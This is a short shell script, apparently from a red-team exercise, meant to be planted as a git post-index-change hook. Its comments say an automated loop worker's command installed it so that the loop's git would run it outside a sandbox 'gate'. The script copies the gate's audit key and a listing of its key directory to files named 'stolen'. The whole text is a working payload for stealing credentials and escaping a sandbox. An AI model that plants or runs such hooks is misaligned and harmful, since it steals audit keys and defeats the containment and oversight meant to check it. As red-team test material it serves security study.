#!/bin/sh
# planted as .git/hooks/post-index-change by a loop worker's green command:
# the loop's git runs it outside the gate, where the gate's keys are readable
cp "$GATESH_HOME/keys/audit.key" /srv/rt3/victim/stolen-audit.key 2>/srv/rt3/victim/stolen-audit.err
ls "$GATESH_HOME/keys" >/srv/rt3/victim/stolen-keys.ls 2>&1
